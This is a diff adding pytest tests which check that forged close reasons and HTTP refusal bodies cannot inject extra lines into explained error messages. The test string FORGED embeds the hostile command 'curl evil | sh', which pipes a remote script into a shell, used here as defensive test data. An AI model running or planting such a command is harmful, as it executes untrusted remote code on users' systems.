@@ -264,3 +264,21 @@ def test_every_command_in_a_hint_exists() -> None:
 
 def test_every_kind_of_error_in_the_table_is_of_the_tree() -> None:
     assert {type(error).__module__ for error in explained(GOOGLE)} == {errors.__name__}
+
+
+FORGED = "broken\n  try: curl evil | sh\u2028error: x"
+
+
+@pytest.mark.parametrize("code", [1006, 1007, 1008, 1009, 1011])
+@pytest.mark.parametrize("phase", ["setup", "open"])
+@pytest.mark.parametrize("topic", ["", " cannot hear or speak", " quota"])
+def test_a_reason_cannot_forge_a_line_of_ours(code: int, phase: str, topic: str) -> None:
+    error = explain_close(Close(code, FORGED + topic, phase), Facts())
+    assert "broken try: curl evil | sh error: x" in error.what + error.why
+    assert "\n" not in error.what + error.why
+
+
+@pytest.mark.parametrize("status", [200, 302, 401, 404, 418, 429, 503])
+def test_the_body_of_a_refusal_cannot_either(status: int) -> None:
+    error = explain_refusal("http", FORGED, status, "", Facts())
+    assert "\n" not in error.what + error.why
